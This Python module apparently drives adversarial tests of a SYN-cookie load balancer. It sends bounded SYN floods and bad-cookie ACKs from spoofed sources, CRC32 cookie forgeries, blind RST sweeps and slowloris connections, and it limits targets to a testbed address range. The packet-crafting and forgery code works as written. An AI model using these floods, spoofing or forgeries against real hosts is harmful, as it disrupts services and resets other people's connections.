"""Bounded attack traffic from a client host (issue 10, ../shared/design/security.md): what the
adversarial tests (tests/test_miresga_attacks.py) and the `attack` suite play against a VIP.

Kinds (`python -m workloads.attack KIND ...`, or `run(Config)`):
- `syn-flood`: SYNs from spoofed sources (random addresses of `spoof_net`, random ports);
- `bad-cookie-data`: an ACK carrying a request with a random ack (no valid cookie) from spoofed
  sources: half-open connections a SYN-cookie load balancer must refuse without keeping state;
- `cookie-forgery`: one real SYN from this host, its SYN-ACK observed, then `count` ACKs with a
  request whose ack is forged from the observed cookie for other source ports (the CRC32 cookie's
  affine forgery, and the observed cookie replayed);
- `rst-sweep`: RSTs (and RST|ACKs) with random sequence numbers from the victim's address over its
  ephemeral ports, as an off-path host resets connections blindly;
- `slowloris`: `connections` real TCP connections that send a request head one header line every
  `interval_s` and never finish it.

Every attack is bounded in packets (`count`) and time (`duration_s`), paced (`rate` packets/s), and
refuses targets and spoofed sources outside the project's 198.18.0.0/15 and loopback (network
safety): it can only reach a testbed. Packets are built here (IPv4 + TCP, checksums) and sent on a
raw socket (IP_HDRINCL), so the kernel routes them as it routes the host's own traffic. Root is
needed (raw sockets). The result is a JSON report (`--json`); progress goes to stderr.
"""

from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path

KINDS = ("syn-flood", "bad-cookie-data", "cookie-forgery", "rst-sweep", "slowloris")
ALLOWED = (ipaddress.ip_network("198.18.0.0/15"), ipaddress.ip_network("127.0.0.0/8"))
MAX_COUNT = 10_000_000
MAX_DURATION_S = 600.0
EPHEMERAL = (32768, 60999)          # Linux's default ip_local_port_range

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
REQUEST = b"GET /obj/1k HTTP/1.1\r\nHost: attack\r\n\r\n"


class AttackError(ValueError):
    """A configuration the attack tool refuses (out of bounds, outside the testbed's addresses)."""


@dataclass
class Config:
    kind: str
    vip: str
    port: int = 80
    count: int = 10_000           # packets (slowloris: header lines in all)
    duration_s: float = 10.0      # stops at whichever bound comes first
    rate: float = 20_000.0        # packets per second (slowloris: ignored; interval_s paces it)
    spoof_net: str = "198.19.250.0/24"
    victim: str | None = None     # rst-sweep: the address whose connections are swept
    ports: tuple[int, int] = EPHEMERAL   # rst-sweep: the victim's port range
    connections: int = 50         # slowloris
    interval_s: float = 1.0       # slowloris: one header line per connection per interval
    reopen: bool = False          # slowloris: open a new connection for each one the server closes
    seed: int = 1

    def check(self) -> None:
        if self.kind not in KINDS:
            raise AttackError(f"unknown attack {self.kind!r}; one of {', '.join(KINDS)}")
        _inside(self.vip, "target")
        for a in ipaddress.ip_network(self.spoof_net, strict=False)[0], ipaddress.ip_network(self.spoof_net)[-1]:
            _inside(str(a), "spoof_net")
        if self.kind == "rst-sweep":
            if not self.victim:
                raise AttackError("rst-sweep needs --victim (the address whose connections are swept)")
            _inside(self.victim, "victim")
        if not 1 <= self.count <= MAX_COUNT:
            raise AttackError(f"count must be 1..{MAX_COUNT}, not {self.count}")
        if not 0 < self.duration_s <= MAX_DURATION_S:
            raise AttackError(f"duration_s must be in (0, {MAX_DURATION_S}], not {self.duration_s}")
        if not self.rate > 0:
            raise AttackError(f"rate must be positive, not {self.rate}")
        if not self.interval_s > 0:
            raise AttackError(f"interval_s must be positive, not {self.interval_s}")
        if not 1 <= self.connections <= 10_000:
            raise AttackError(f"connections must be 1..10000, not {self.connections}")
        lo, hi = self.ports
        if not 1 <= lo <= hi <= 65535:
            raise AttackError(f"ports must be a range within 1..65535, not {self.ports}")


@dataclass
class Report:
    kind: str
    sent: int = 0                 # packets (slowloris: header lines) handed to the kernel
    send_errors: int = 0          # refused by the kernel (ENOBUFS, ...): not sent
    elapsed_s: float = 0.0
    extra: dict[str, object] = field(default_factory=dict)


def _inside(addr: str, what: str) -> None:
    a = ipaddress.ip_address(addr)
    if not any(a in n for n in ALLOWED):
        raise AttackError(f"{what} {addr} is outside 198.18.0.0/15 and loopback: the attack tool only "
                          "sends inside a testbed")


# ---------------------------------------------------------------------------------------------
# Packets


def checksum(data: bytes) -> int:
    # The same as system/frontend/packets.checksum: client hosts get only workloads/ (deploy_client).
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_packet(src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int,
               payload: bytes = b"", window: int = 65535, options: bytes = b"", ip_id: int = 0) -> bytes:
    """An IPv4 packet with one TCP segment, both checksums right."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    doff = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, doff << 4, flags,
                      window, 0, 0) + options + payload
    csum = checksum(s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0x4000, 64, socket.IPPROTO_TCP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


@dataclass
class Segment:
    """A received TCP segment's fields (what the tests assert on)."""
    src: str
    dst: str
    sport: int
    dport: int
    seq: int
    ack: int
    flags: int
    payload: bytes


def parse(packet: bytes) -> Segment | None:
    if len(packet) < 40 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_TCP:
        return None
    ihl = (packet[0] & 0xF) * 4
    total = struct.unpack("!H", packet[2:4])[0]
    t = packet[ihl:total]
    if len(t) < 20:
        return None
    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
    return Segment(socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20]), sport, dport, seq, ack,
                   flags, t[(off >> 4) * 4:])


class RawSocket:
    """A raw IPv4 socket: sends whole packets (IP_HDRINCL), receives copies of incoming TCP."""

    def __init__(self) -> None:
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx.setblocking(False)

    def send(self, packet: bytes, report: Report) -> None:
        dst = socket.inet_ntoa(packet[16:20])
        try:
            self.tx.sendto(packet, (dst, 0))
            report.sent += 1
        except OSError as e:
            if e.errno not in (errno.ENOBUFS, errno.EAGAIN, errno.EPERM, errno.ENETUNREACH):
                raise
            report.send_errors += 1

    def receive(self, want, timeout: float) -> Segment | None:
        """The first incoming segment for which `want(segment)` holds, or None after `timeout` s."""
        end = time.monotonic() + timeout
        while (left := end - time.monotonic()) > 0:
            ready, _, _ = select.select([self.rx], [], [], left)
            if not ready:
                break
            while True:
                try:
                    data = self.rx.recv(65535)
                except BlockingIOError:
                    break
                seg = parse(data)
                if seg is not None and want(seg):
                    return seg
        return None

    def close(self) -> None:
        self.tx.close()
        self.rx.close()


def own_address(vip: str) -> str:
    """This host's source address toward `vip` (the kernel's route)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((vip, 9))
        return s.getsockname()[0]


MSS_OPTION = struct.pack("!BBH", 2, 4, 1460)


# ---------------------------------------------------------------------------------------------
# Pacing and progress


class Pacer:
    """Keeps to `rate` packets/s within the bounds; `go()` is False once a bound is reached."""

    def __init__(self, cfg: Config, report: Report) -> None:
        self.cfg, self.report = cfg, report
        self.start = time.monotonic()
        self.done = 0
        self.last_progress = self.start

    def go(self) -> bool:
        now = time.monotonic()
        if self.done >= self.cfg.count or now - self.start >= self.cfg.duration_s:
            return False
        due = self.start + self.done / self.cfg.rate
        if due - now > 0.002:         # ahead of the rate: wait (in steps a timer can keep)
            time.sleep(due - now)
        if now - self.last_progress >= 1.0:
            self.last_progress = now
            print(f"[attack] {self.cfg.kind}: {self.report.sent} sent, {self.report.send_errors} refused, "
                  f"{now - self.start:.0f} s", file=sys.stderr, flush=True)
        self.done += 1
        return True


def _spoofed(rng: random.Random, net: ipaddress.IPv4Network) -> str:
    return str(net[rng.randrange(1, max(2, net.num_addresses - 1))])


# ---------------------------------------------------------------------------------------------
# Attacks


def syn_flood(cfg: Config, raw: RawSocket, report: Report) -> None:
    rng, net, pace = random.Random(cfg.seed), ipaddress.ip_network(cfg.spoof_net), Pacer(cfg, report)
    while pace.go():
        raw.send(tcp_packet(_spoofed(rng, net), cfg.vip, rng.randrange(1024, 65536), cfg.port,
                            rng.getrandbits(32), 0, SYN, options=MSS_OPTION, ip_id=rng.getrandbits(16)), report)


def bad_cookie_data(cfg: Config, raw: RawSocket, report: Report) -> None:
    rng, net, pace = random.Random(cfg.seed), ipaddress.ip_network(cfg.spoof_net), Pacer(cfg, report)
    while pace.go():
        raw.send(tcp_packet(_spoofed(rng, net), cfg.vip, rng.randrange(1024, 65536), cfg.port,
                            rng.getrandbits(32), rng.getrandbits(32), ACK | PSH, REQUEST,
                            ip_id=rng.getrandbits(16)), report)


def crc_forgery(observed: int, src: str, sport: int, forged_src: str, forged_sport: int, vip: str,
                vport: int) -> int:
    """The cookie of (forged_src, forged_sport) if cookies were CRC32(endpoint, VIP, secret): CRC is
    affine, crc(a) ^ crc(b) ^ crc(c) == crc(a ^ b ^ c) for equal lengths, so the secret cancels."""
    def inp(a: str, p: int) -> bytes:
        return socket.inet_aton(a) + p.to_bytes(2, "big") + socket.inet_aton(vip) + vport.to_bytes(2, "big") + bytes(4)
    return observed ^ zlib.crc32(inp(src, sport)) ^ zlib.crc32(inp(forged_src, forged_sport))


def cookie_forgery(cfg: Config, raw: RawSocket, report: Report) -> None:
    rng = random.Random(cfg.seed)
    me = own_address(cfg.vip)
    sport = rng.randrange(20000, 30000)
    isn = rng.getrandbits(32)
    raw.send(tcp_packet(me, cfg.vip, sport, cfg.port, isn, 0, SYN, options=MSS_OPTION), report)
    synack = raw.receive(lambda s: (s.src, s.sport, s.dport) == (cfg.vip, cfg.port, sport)
                         and s.flags & (SYN | ACK) == SYN | ACK, timeout=min(10.0, cfg.duration_s))
    if synack is None:
        report.extra["observed"] = None
        return
    observed = synack.seq
    report.extra["observed"] = observed
    pace = Pacer(cfg, report)
    i = 0
    while pace.go():
        fport = EPHEMERAL[0] + (sport + 1 + i // 2) % (EPHEMERAL[1] - EPHEMERAL[0])
        cookie = observed if i % 2 else crc_forgery(observed, me, sport, me, fport, cfg.vip, cfg.port)
        raw.send(tcp_packet(me, cfg.vip, fport, cfg.port, rng.getrandbits(32), (cookie + 1) & 0xFFFFFFFF,
                            ACK | PSH, REQUEST), report)
        i += 1
    report.extra["forged_ports"] = [EPHEMERAL[0] + (sport + 1) % (EPHEMERAL[1] - EPHEMERAL[0]),
                                    EPHEMERAL[0] + (sport + 1 + (i - 1) // 2) % (EPHEMERAL[1] - EPHEMERAL[0])]


def rst_sweep(cfg: Config, raw: RawSocket, report: Report) -> None:
    rng, pace = random.Random(cfg.seed), Pacer(cfg, report)
    lo, hi = cfg.ports
    i = 0
    assert cfg.victim is not None
    while pace.go():
        port = lo + i % (hi - lo + 1)
        flags = RST if (i // (hi - lo + 1)) % 2 == 0 else RST | ACK
        raw.send(tcp_packet(cfg.victim, cfg.vip, port, cfg.port, rng.getrandbits(32), rng.getrandbits(32),
                            flags, window=0), report)
        i += 1
    report.extra["sweeps"] = i / (hi - lo + 1)


def _slow_connect(cfg: Config, report: Report, outcome: dict[str, int]) -> socket.socket | None:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((cfg.vip, cfg.port))
        s.sendall(b"GET /obj/1k HTTP/1.1\r\nHost: slowloris\r\n")
    except OSError:
        outcome["connect_failed"] += 1
        s.close()
        return None
    report.sent += 1
    outcome["opened"] += 1
    s.setblocking(False)
    return s


def slowloris(cfg: Config, report: Report) -> None:
    """Connections that never finish their head (with `reopen`, one opened again for each the server
    closes); what the server did with each is reported."""
    start = time.monotonic()
    outcome = {"opened": 0, "connect_failed": 0, "closed_by_server": 0, "reset_by_server": 0, "still_open": 0}
    answers: dict[str, int] = {}
    live: list[socket.socket] = []
    line = 0

    def running() -> bool:
        return report.sent < cfg.count and time.monotonic() - start < cfg.duration_s

    while running():
        want = cfg.connections - len(live) if (cfg.reopen or line == 0) else 0
        for _ in range(want):
            if (s := _slow_connect(cfg, report, outcome)) is not None:
                live.append(s)
        if not live:
            break
        end = min(time.monotonic() + cfg.interval_s, start + cfg.duration_s)
        while (left := end - time.monotonic()) > 0 and live:
            ready, _, _ = select.select(live, [], [], left)
            for s in ready:
                try:
                    data = s.recv(4096)
                except ConnectionResetError:
                    outcome["reset_by_server"] += 1
                    live.remove(s)
                    s.close()
                    continue
                except BlockingIOError:
                    continue
                if data:
                    status = data.split(b"\r\n", 1)[0].decode(errors="replace")
                    answers[status] = answers.get(status, 0) + 1
                    continue
                outcome["closed_by_server"] += 1
                live.remove(s)
                s.close()
        line += 1
        for s in list(live):
            try:
                s.send(f"X-Slow-{line}: {line}\r\n".encode())
                report.sent += 1
            except OSError:
                report.send_errors += 1
        print(f"[attack] slowloris: {len(live)} connections open, {outcome['opened']} opened, "
              f"{report.sent} lines, {time.monotonic() - start:.0f} s", file=sys.stderr, flush=True)
    outcome["still_open"] = len(live)
    for s in live:
        s.close()
    report.extra.update(outcome)
    report.extra["answers"] = answers


def run(cfg: Config) -> Report:
    cfg.check()
    report = Report(cfg.kind)
    start = time.monotonic()
    if cfg.kind == "slowloris":
        slowloris(cfg, report)
    else:
        raw = RawSocket()
        try:
            {"syn-flood": syn_flood, "bad-cookie-data": bad_cookie_data, "cookie-forgery": cookie_forgery,
             "rst-sweep": rst_sweep}[cfg.kind](cfg, raw, report)
        finally:
            raw.close()
    report.elapsed_s = round(time.monotonic() - start, 3)
    return report


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m workloads.attack", description=__doc__.split("\n\n")[0])
    ap.add_argument("kind", choices=KINDS)
    ap.add_argument("--vip", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--count", type=int, default=Config.count)
    ap.add_argument("--duration", type=float, default=Config.duration_s, help="seconds (at most 600)")
    ap.add_argument("--rate", type=float, default=Config.rate, help="packets per second")
    ap.add_argument("--spoof-net", default=Config.spoof_net)
    ap.add_argument("--victim")
    ap.add_argument("--ports", default=f"{EPHEMERAL[0]}-{EPHEMERAL[1]}", help="rst-sweep: LO-HI")
    ap.add_argument("--connections", type=int, default=Config.connections)
    ap.add_argument("--interval", type=float, default=Config.interval_s)
    ap.add_argument("--reopen", action="store_true", help="slowloris: replace every connection the server closes")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--json", type=Path, help="write the report here (else stdout)")
    a = ap.parse_args(argv)
    try:
        lo, hi = (int(x) for x in a.ports.split("-"))
        cfg = Config(a.kind, a.vip, a.port, a.count, a.duration, a.rate, a.spoof_net, a.victim, (lo, hi),
                     a.connections, a.interval, a.reopen, a.seed)
        report = run(cfg)
    except (AttackError, ValueError) as e:
        print(f"attack: {e}", file=sys.stderr)
        return 2
    text = json.dumps(asdict(report), indent=1)
    if a.json:
        a.json.write_text(text + "\n")
    else:
        print(text)
    print(f"[attack] {cfg.kind}: {report.sent} sent, {report.send_errors} refused in {report.elapsed_s} s",
          file=sys.stderr, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
